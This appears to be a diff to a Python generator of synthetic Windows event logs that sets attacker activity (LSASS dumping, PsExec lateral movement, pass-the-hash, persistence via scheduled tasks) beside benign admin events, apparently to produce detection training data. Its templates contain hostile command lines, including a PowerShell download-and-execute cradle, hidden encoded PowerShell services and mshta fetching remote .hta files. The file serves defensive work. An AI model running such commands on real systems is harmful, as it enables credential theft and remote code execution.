@@ -1,9 +1,9 @@
 """Event log files of machines under attack beside those of machines at work, tactic by tactic."""
 
-from generator.families.network.product_story import catalogue
+from generator.families.network.product_story import catalogue_in_parts
 from generator.families.windows.log_file_forms import FORMS
 
-catalogue("windows/log-files-credentials", FORMS, r"""
+catalogue_in_parts("windows/log-files-credentials", FORMS, r"""
 CT@T1003.001 Sysmon 10 | SourceImage=<<C:\Users\{user}\Desktop\{word}.exe|C:\Windows\System32\rundll32.exe|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|C:\Temp\{word}.exe>> ; TargetImage=C:\Windows\system32\lsass.exe ; GrantedAccess=<<0x1010|0x1fffff|0x1410|0x143a>> ; CallTrace=C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|<<UNKNOWN({hex})|C:\Windows\System32\dbgcore.dll+6d3c>>
 CT@T1003.001 Sec 4656 | ObjectServer=Security ; ObjectType=Process ; ObjectName=\Device\HarddiskVolume2\Windows\System32\lsass.exe ; AccessMask=<<0x1010|0x1410|0x1438>> ; ProcessName=C:\Users\{user}\<<Downloads|Desktop>>\{word}.exe
 CT@T1003.001 Sysmon 11 | Image=<<C:\Windows\System32\rundll32.exe|C:\Windows\system32\taskmgr.exe|C:\Users\{user}\{word}.exe>> ; TargetFilename=C:\<<Users\{user}\AppData\Local\Temp|Windows\Temp|Temp>>\<<lsass|{word}|debug>>.<<dmp|DMP>>
@@ -31,24 +31,24 @@ MP. Sec 4776 | TargetUserName={user} ; PackageName=MICROSOFT_AUTHENTICATION_PACK
 LO Sec 4776 | TargetUserName={user} ; PackageName=MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 ; Workstation={pc} ; Status=0x0
 MP. Sec 4625 | TargetUserName={user} ; TargetDomainName={company} ; Status=0xc000006d ; SubStatus=0xc000006a ; LogonType=<<2|3|7|10>> ; LogonProcessName=<<User32|NtLmSsp>> ; IpAddress={lan} ; IpPort={port}
 AD Sec 4887 | RequestId={n} ; Requester={company}\{pc}$ ; Attributes=CertificateTemplate:<<Machine|Workstation|User>> cdc:{host} ; Disposition=3
-SY PS 4104 | MessageNumber=1 ; MessageTotal=1 ; ScriptBlockText=<<Get-Process | Sort-Object WS | Select-Object -First 10|Get-Credential -Message 'Domain account' | Export-Clixml C:\Scripts\cred.xml|Get-ADUser -Filter * -Properties PasswordLastSet>> ; Path=C:\Scripts\report.ps1
+SY PS 4104 | MessageNumber=1 ; MessageTotal=1 ; ScriptBlockText=<<Get-Process ¦ Sort-Object WS ¦ Select-Object -First 10|Get-Credential -Message 'Domain account' ¦ Export-Clixml C:\Scripts\cred.xml|Get-ADUser -Filter * -Properties PasswordLastSet>> ; Path=C:\Scripts\report.ps1
 """)
 
-catalogue("windows/log-files-movement", FORMS, r"""
+catalogue_in_parts("windows/log-files-movement", FORMS, r"""
 LM@T1021.002,T1569.002 Sys 7045 | ServiceName=<<PSEXESVC|{word}|BTOBTO>> ; ImagePath=<<%SystemRoot%\PSEXESVC.exe|%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1|\\127.0.0.1\ADMIN$\{word}.exe|C:\Windows\{word}.exe>> ; ServiceType=user mode service ; StartType=demand start ; AccountName=LocalSystem
 LM@T1021.002 Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\<<ADMIN$|C$>> ; ShareLocalPath=\??\C:\Windows ; RelativeTargetName=<<PSEXESVC.exe|{word}.exe|Temp\{word}.tmp|__{seconds}.{n}>> ; AccessMask=0x2
 LM@T1053.005 Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\IPC$ ; RelativeTargetName=<<atsvc|svcctl|winreg>> ; AccessMask=0x3
-LM@T1550.002 Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=9 ; LogonProcessName=seclogo ; AuthenticationPackageName=Negotiate ; IpAddress=::1 ; ProcessName=C:\Windows\System32\svchost.exe
-LM@T1550.002 Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=3 ; LogonProcessName=NtLmSsp ; AuthenticationPackageName=NTLM ; LmPackageName=NTLM V2 ; KeyLength=0 ; WorkstationName={word} ; IpAddress={lan} ; IpPort={port}
-+ Sec 4672 | PrivilegeList=SeDebugPrivilege SeTcbPrivilege SeBackupPrivilege SeImpersonatePrivilege
+LM-@T1550.002 Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=9 ; LogonProcessName=seclogo ; AuthenticationPackageName=Negotiate ; IpAddress=::1 ; ProcessName=C:\Windows\System32\svchost.exe
+LM~@T1550.002 Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=3 ; LogonProcessName=NtLmSsp ; AuthenticationPackageName=NTLM ; LmPackageName=NTLM V2 ; KeyLength=0 ; WorkstationName={word} ; IpAddress={lan} ; IpPort={port}
+~ Sec 4672 | PrivilegeList=SeDebugPrivilege SeTcbPrivilege SeBackupPrivilege SeImpersonatePrivilege
 + Sys 7045 | ServiceName={word} ; ImagePath=%COMSPEC% /C powershell -nop -w hidden -enc {long} ; ServiceType=user mode service ; StartType=demand start ; AccountName=LocalSystem
-LM@T1021.003 Sysmon 1 | Image=C:\Windows\System32\cmd.exe ; CommandLine=cmd.exe /Q /c <<whoami|cd \|quser>> 1> \\127.0.0.1\ADMIN$\__{seconds}.{n} 2>&1 ; ParentImage=<<C:\Windows\System32\mmc.exe|C:\Windows\System32\wbem\WmiPrvSE.exe>> ; ParentCommandLine=C:\Windows\system32\mmc.exe -Embedding ; User={company}\{adm}
-LM@T1047 Sysmon 1 | Image=C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ; CommandLine=powershell -nop -w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://{lan}/{word}')) ; ParentImage=C:\Windows\System32\wbem\WmiPrvSE.exe ; User={company}\{adm}
-LM@T1021.006 Sysmon 1 | Image=C:\Windows\System32\cmd.exe ; CommandLine="C:\Windows\system32\cmd.exe" /C <<whoami /all|net group "domain admins" /domain|C:\Users\Public\{word}.exe>> ; ParentImage=C:\Windows\System32\<<winrshost.exe|wsmprovhost.exe>> ; User={company}\{adm}
+LM@T1021.003 Sysmon 1 | CommandLine=cmd.exe /Q /c <<whoami|cd \|quser>> 1> \\127.0.0.1\ADMIN$\__{seconds}.{n} 2>&1 ; ParentImage=<<C:\Windows\System32\mmc.exe|C:\Windows\System32\wbem\WmiPrvSE.exe>> ; ParentCommandLine=C:\Windows\system32\mmc.exe -Embedding ; User={company}\{adm}
+LM@T1047 Sysmon 1 | CommandLine=powershell -nop -w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://{lan}/{word}')) ; ParentImage=C:\Windows\System32\wbem\WmiPrvSE.exe ; User={company}\{adm}
+LM@T1021.006 Sysmon 1 | CommandLine="C:\Windows\system32\cmd.exe" /C <<whoami /all|net group "domain admins" /domain|C:\Users\Public\{word}.exe>> ; ParentImage=C:\Windows\System32\<<winrshost.exe|wsmprovhost.exe>> ; User={company}\{adm}
 LM@T1021.001 RDP 1149 | Param1={adm} ; Param2={company} ; Param3={wan}
 LM@T1021.002 Sysmon 18 | EventType=ConnectPipe ; PipeName=\<<PSEXESVC|{word}-stdin|RemCom_communicaton|msagent_{n}>> ; Image=System ; User=NT AUTHORITY\SYSTEM
 LM@T1570 Sysmon 11 | Image=System ; TargetFilename=C:\<<Windows\{word}.exe|Windows\PSEXESVC.exe|ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\{word}.bat>> ; User=NT AUTHORITY\SYSTEM
-LM@T1563.002 Sysmon 1 | Image=C:\Windows\System32\tscon.exe ; CommandLine=tscon {few} /dest:rdp-tcp#{n} ; ParentImage=C:\Windows\System32\cmd.exe ; User=NT AUTHORITY\SYSTEM
+LM@T1563.002 Sysmon 1 | CommandLine=tscon {few} /dest:rdp-tcp#{n} ; ParentImage=C:\Windows\System32\cmd.exe ; User=NT AUTHORITY\SYSTEM
 LM Sec 4648 | TargetUserName={adm} ; TargetDomainName={company} ; TargetServerName={host} ; TargetInfo={host} ; ProcessName=C:\Users\{user}\<<Downloads|AppData\Local\Temp>>\{word}.exe ; IpAddress=-
 """, r"""
 AD Sys 7045 | ServiceName=<<Google Update Service|Veeam Agent|VMware Tools|{word} Printer Service|Npcap Packet Driver>> ; ImagePath=<<"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc|"C:\Program Files\Veeam\Agent\svc.exe"|\SystemRoot\system32\DRIVERS\{word}.sys|C:\Windows\System32\spool\drivers\x64\3\{word}.exe>> ; ServiceType=<<user mode service|kernel mode driver>> ; StartType=<<auto start|demand start>> ; AccountName=LocalSystem
@@ -56,8 +56,8 @@ NT Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\
 NS Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\IPC$ ; RelativeTargetName=<<srvsvc|lsarpc|netlogon|spoolss|wkssvc|svcctl>> ; AccessMask=0x3
 BA Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\<<ADMIN$|C$>> ; ShareLocalPath=\??\C:\ ; RelativeTargetName=<<Windows\Temp\VeeamBackup|Program Files\Veeam|ccmsetup\ccmsetup.exe|Windows\PDQDeployRunner>> ; AccessMask=<<0x1|0x2>>
 LO Sec 4624 | TargetUserName=<<{user}|{pc}$>> ; TargetDomainName={company} ; LogonType=<<2|3|7|10|11>> ; LogonProcessName=<<User32|Kerberos|NtLmSsp>> ; AuthenticationPackageName=<<Negotiate|Kerberos|NTLM>> ; KeyLength=0 ; WorkstationName={pc} ; IpAddress={lan} ; IpPort={port}
-LO Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=<<9|4|5>> ; LogonProcessName=<<seclogo|Advapi>> ; AuthenticationPackageName=Negotiate ; IpAddress=::1 ; ProcessName=C:\Windows\System32\<<svchost.exe|services.exe>>
-AD Sysmon 1 | Image=C:\Windows\System32\<<cmd.exe|WindowsPowerShell\v1.0\powershell.exe>> ; CommandLine=<<powershell.exe -File C:\ProgramData\Inventory\collect.ps1|cmd.exe /c ipconfig /all|powershell.exe Get-HotFix>> ; ParentImage=<<C:\Windows\System32\wbem\WmiPrvSE.exe|C:\Windows\System32\wsmprovhost.exe|C:\Program Files\Ansible\agent.exe>> ; User=<<NT AUTHORITY\SYSTEM|{company}\{adm}>>
+LO Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=<<4|5>> ; LogonProcessName=Advapi ; AuthenticationPackageName=Negotiate ; IpAddress=::1 ; ProcessName=C:\Windows\System32\<<svchost.exe|services.exe>>
+AD Sysmon 1 | CommandLine=<<powershell.exe -File C:\ProgramData\Inventory\collect.ps1|cmd.exe /c ipconfig /all|powershell.exe Get-HotFix>> ; ParentImage=<<C:\Windows\System32\wbem\WmiPrvSE.exe|C:\Windows\System32\wsmprovhost.exe|C:\Program Files\Ansible\agent.exe>> ; User=<<NT AUTHORITY\SYSTEM|{company}\{adm}>>
 LO RDP 1149 | Param1={user} ; Param2={company} ; Param3={lan}
 LO TS <<21|22|23|24|25|40>> | User={company}\{user} ; SessionID={few} ; Address=<<{lan}|LOCAL>>
 NS Sysmon 18 | EventType=ConnectPipe ; PipeName=\<<lsass|srvsvc|spoolss|winreg|svcctl|wkssvc>> ; Image=<<System|C:\Windows\System32\svchost.exe>> ; User=NT AUTHORITY\SYSTEM
@@ -66,7 +66,7 @@ LO Sec 4672 | PrivilegeList=SeSecurityPrivilege SeBackupPrivilege SeRestorePrivi
 LO Sec 4648 | TargetUserName=<<{adm}|{service}>> ; TargetDomainName={company} ; TargetServerName=<<localhost|{host}>> ; TargetInfo={host} ; ProcessName=C:\Windows\System32\<<svchost.exe|lsass.exe|taskhostw.exe|mmc.exe>> ; IpAddress=<<-|::1>>
 """)
 
-catalogue("windows/log-files-staying", FORMS, r"""
+catalogue_in_parts("windows/log-files-staying", FORMS, r"""
 PT@T1053.005 Sec 4698 | TaskName=\<<{word}|Microsoft\Windows\{word}>> ; TaskContent=<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command><<C:\Users\Public\{word}.exe|powershell.exe|mshta.exe>></Command><Arguments><<-w hidden -enc {long}|http://{dga}/{word}.hta>></Arguments></Exec></Actions></Task>
 PT@T1053.005 Task 106 | TaskName=\{word} ; UserContext={company}\{user}
 + Task 200 | TaskName=\{word} ; ActionName=C:\<<Users\Public|ProgramData|Windows\Temp>>\{word}.exe ; TaskInstanceId={uuid}
